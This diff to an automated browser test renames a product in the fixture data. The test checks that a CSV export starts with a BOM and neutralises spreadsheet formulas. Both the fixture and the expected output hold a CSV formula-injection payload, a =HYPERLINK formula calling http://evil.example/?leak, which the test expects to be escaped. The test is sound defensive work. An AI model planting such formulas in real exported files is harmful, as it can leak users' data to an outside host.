@@ -25,13 +25,13 @@ test('CSV has a BOM (a setting) and formulas over several lines are neutralised 
   await page.goto(`${site.origin}/product.html`);
   await putJob(
     worker,
-    finishedJob('x', Date.now(), { result: { items: [{ name: 'KÄRCHER K2', temp: '40 °C', link: EVIL }] } }),
+    finishedJob('x', Date.now(), { result: { items: [{ name: 'ÖLMÜHLE K2', temp: '40 °C', link: EVIL }] } }),
   );
   let popup = await openPopup();
   await expect(popup.locator('.job')).toHaveAttribute('data-status', 'completed');
   const csv = await downloadCsv(popup);
   expect(csv).toBe(
-    `\uFEFFname,temp,link\r\nKÄRCHER K2,40 °C,"'=HYPERLINK(""http://evil.example/?leak"",\n""Click me"")"`,
+    `\uFEFFname,temp,link\r\nÖLMÜHLE K2,40 °C,"'=HYPERLINK(""http://evil.example/?leak"",\n""Click me"")"`,
   );
 
   await popup.getByRole('button', { name: 'Copy TSV' }).click();
